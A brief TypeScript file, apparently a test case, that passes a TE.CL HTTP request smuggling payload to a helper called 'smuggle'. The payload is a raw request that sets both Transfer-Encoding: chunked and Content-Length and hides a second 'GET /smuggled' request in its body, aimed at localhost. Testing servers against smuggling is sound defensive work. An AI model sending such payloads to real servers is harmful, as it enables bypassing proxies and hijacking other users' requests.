import { smuggle } from "./smuggle.ts";

smuggle(
  "Transfer-Encoding and Content-Length (TE.CL)",
  "POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\nGET /smuggled HTTP/1.1\r\nHost: localhost\r\n\r\n0\r\n\r\n",
);
